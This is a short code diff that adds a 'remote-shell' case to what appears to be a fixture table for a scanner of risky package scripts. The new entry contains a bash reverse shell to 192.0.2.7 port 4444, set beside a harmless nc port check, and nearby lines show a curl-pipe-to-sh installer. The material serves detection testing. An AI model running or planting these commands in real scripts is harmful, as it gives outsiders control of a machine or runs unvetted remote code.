@@ -59,6 +59,11 @@ export const PACKAGE_EXAMPLES = {
     '#!/bin/sh\nset -eu\ncurl -sSf https://get.tool.example/i.sh | sh',
     '#!/bin/sh\nset -eu\nnpm ci',
   ]),
+  'remote-shell': flags('Somebody else types commands on the machine, with all rights of whoever runs the program.', [
+    'scripts/status.sh',
+    '#!/bin/sh\nset -eu\nbash -i >& /dev/tcp/192.0.2.7/4444 0>&1',
+    '#!/bin/sh\nset -eu\nnc -z db.internal 5432',
+  ]),
   'secret-sent-away': flagsChange('A credential of the machine leaves it, whatever the reason is.', {
     path: 'package.json',
     base: PLAIN,
